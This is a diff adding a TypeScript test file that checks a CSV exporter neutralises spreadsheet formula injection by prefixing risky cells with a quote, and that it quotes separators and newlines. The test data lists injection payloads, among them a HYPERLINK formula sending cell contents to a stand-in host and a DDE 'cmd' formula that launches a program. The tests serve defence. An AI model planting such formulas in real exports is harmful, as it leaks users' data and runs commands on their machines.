@@ -1,0 +1,57 @@
+// That a spreadsheet carries nothing out of what people typed, and reads back what was written.
+import { expect, test } from 'vitest';
+import { csvOf } from './csv.ts';
+
+const hostile = [
+  `=HYPERLINK("https://voorbeeld.test?"&A1;"klik")`,
+  `=cmd|'/c calc'!A0`,
+  '+31612345678',
+  '-2+3+cmd|x',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  // Excel reads these as the same signs.
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+];
+
+test.each(['dutch', 'iso'] as const)('%s: no cell begins a formula', (variant) => {
+  for (const typed of hostile) {
+    const [cell] = cellsOf(csvOf([[typed, 'volgende']], variant), variant);
+    expect(cell).toBe(`'${typed}`);
+  }
+});
+
+test.each(['dutch', 'iso'] as const)(
+  '%s: what holds signs of the file stays one cell',
+  (variant) => {
+    const typed = ['a;b', 'c,d', 'zij zei "nee"', 'twee\nregels', '; =1+1'];
+    expect(cellsOf(csvOf([typed], variant), variant)).toEqual(typed);
+  },
+);
+
+test('only its first part says in what it is written', () => {
+  expect(csvOf([['a']], 'dutch')).toBe('\u{feff}a\r\n');
+  expect(csvOf([['a']], 'dutch', { isFirst: false })).toBe('a\r\n');
+  expect(csvOf([['a', 'b']], 'iso')).toBe('a,b\r\n');
+});
+
+/** The cells of its only row, read as RFC 4180 says. */
+function cellsOf(csv: string, variant: 'dutch' | 'iso'): string[] {
+  const text = csv.replace(/^\u{feff}/u, '').replace(/\r\n$/, '');
+  const sign = variant === 'dutch' ? ';' : ',';
+  const cells = [''];
+  let isQuoted = false;
+  for (let at = 0; at < text.length; at += 1) {
+    const letter = text[at]!;
+    if (letter === '"' && isQuoted && text[at + 1] === '"') {
+      cells[cells.length - 1] += letter;
+      at += 1;
+    } else if (letter === '"') isQuoted = !isQuoted;
+    else if (letter === sign && !isQuoted) cells.push('');
+    else cells[cells.length - 1] += letter;
+  }
+  return cells;
+}
